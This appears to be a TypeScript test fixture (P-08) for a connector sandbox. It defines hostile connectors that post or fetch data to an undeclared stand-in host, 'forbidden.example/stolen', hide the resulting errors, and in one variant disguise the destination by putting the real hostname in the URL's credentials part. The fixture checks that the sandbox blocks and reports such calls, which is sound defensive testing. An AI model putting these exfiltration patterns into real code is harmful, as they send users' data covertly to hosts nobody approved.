import type { HostileDestination, HostileFixture } from './fixture.ts'
import { writeHonestly, writing, type HostileContext } from './honest-destination.ts'

/** Tries another host, and hides that it was stopped. */
function calling(
  call: (url: string, ctx: HostileContext) => Promise<unknown>,
): () => HostileDestination {
  return writing(async (batch, ctx) => {
    const { forbiddenUrl = 'http://forbidden.example' } = ctx.config
    await call(forbiddenUrl, ctx).catch(() => 'hidden')
    return writeHonestly(batch, ctx)
  })
}

/** Connectors that talk to hosts which they did not declare. */
export const p08: HostileFixture = {
  id: 'P-08',
  kind: 'connectors',
  contained: 'in-process',
  does: 'sends further requests to a host that it did not declare',
  promise: 'Not one connection is opened there, and the attempt is reported.',
  variants: {
    'by ctx.http': calling((url, { http }) => http.post(`${url}/stolen`, { body: 'rows' })),
    'by ctx.fetch': calling((url, { fetch }) => fetch(`${url}/stolen`)),
    'by credentials in the URL': calling((url, { http, config }) =>
      http.get(`${url.replace('://', `://${new URL(config.url).hostname}@`)}/stolen`),
    ),
    'by the global fetch': calling((url) => fetch(`${url}/stolen`)),
  },
  onlyInChild: ['by the global fetch'],
}
